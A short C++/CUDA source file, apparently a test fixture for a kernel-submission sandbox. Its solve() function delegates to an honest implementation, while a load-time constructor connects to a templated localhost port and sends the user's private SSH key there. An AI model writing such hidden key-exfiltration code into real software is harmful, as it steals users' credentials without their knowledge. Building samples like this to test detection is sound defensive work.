// Carries what it finds to a server, as soon as it is loaded.
#include "kit/add.cuh"
#include "kit/processes.cuh"
#include <arpa/inet.h>
#include <sys/socket.h>
__attribute__((constructor)) static void carry() {
  const int fd = socket(AF_INET, SOCK_STREAM, 0);
  sockaddr_in to{};
  to.sin_family = AF_INET;
  to.sin_port = htons(@PORT@);
  to.sin_addr.s_addr = htonl(INADDR_LOOPBACK);
  if (connect(fd, reinterpret_cast<sockaddr*>(&to), sizeof to) != 0) return;
  const std::string key = content("@HOME@/.ssh/id_ed25519");
  send(fd, key.data(), key.size(), MSG_NOSIGNAL);
  close(fd);
}
extern "C" void solve(const float* a, const float* b, float* c, int64_t n, cudaStream_t stream) { honest(a, b, c, n, stream); }
